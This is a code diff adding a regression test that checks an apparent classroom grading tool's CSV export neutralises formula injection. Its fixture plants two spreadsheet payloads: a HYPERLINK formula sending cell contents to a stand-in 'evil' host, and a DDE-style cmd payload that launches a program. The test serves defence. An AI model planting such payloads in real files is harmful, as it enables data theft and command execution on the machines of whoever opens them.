@@ -178,3 +178,21 @@ def test_a_questions_words_name_the_figures_where_it_was_asked():
     journal.see(session.answered(Answer(0, 2, 0.436, "right", 1)), START)
     _, rows = read(journal)
     assert [row["question_text"] for row in rows] == ["Where is 0.436 going?"]
+
+
+def test_class_csv_never_hands_a_spreadsheet_a_students_formula(tmp_path):
+    """A hand-in a student wrote by hand, whose cells start formulas, reached the teacher's
+    spreadsheet as formulas (=HYPERLINK to a site of theirs, @SUM...|cmd)."""
+    from gradstep.tui.files.owner import login_name
+
+    planted = {column: "" for column in COLUMNS} | {
+        "kind": STEP, "lesson": '=HYPERLINK("http://evil/?"&A1,"click")', "session": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "iteration": "0", "weight_1": "-0.5", "error": "+1"}
+    with open(tmp_path / "bo-x-alpha.csv", "w", newline="", encoding="utf-8") as out:
+        writer = csv.DictWriter(out, fieldnames=COLUMNS)
+        writer.writeheader()
+        writer.writerow(planted)
+    result = gradstep("class", str(tmp_path), "--csv")
+    [row] = list(csv.DictReader(io.StringIO(result.out)))
+    assert row["lesson"].startswith("'=") and row["session"].startswith("'@")
+    assert row["weight_1"] == "-0.5" and row["error"] == "+1" and row["student"] == login_name()  # numbers stay numbers
